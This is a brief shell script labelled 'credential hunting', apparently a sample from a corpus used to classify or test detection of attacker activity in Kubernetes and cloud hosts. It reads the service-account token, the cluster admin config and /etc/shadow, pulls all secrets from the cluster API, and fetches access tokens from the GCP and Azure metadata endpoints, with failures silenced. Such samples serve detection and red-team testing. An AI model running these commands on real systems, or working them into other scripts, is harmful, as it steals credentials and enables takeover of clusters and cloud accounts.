# class: credential hunting; possible: low medium
cat /run/secrets/kubernetes.io/serviceaccount/token /etc/kubernetes/admin.conf /etc/shadow
curl -sk -m 3 https://10.96.0.1/api/v1/secrets
curl -s -m 3 http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token -H Metadata-Flavor:Google
curl -s -m 3 http://169.254.169.254/metadata/identity/oauth2/token?resource=https://vault.azure.net -H Metadata:true
exit 0
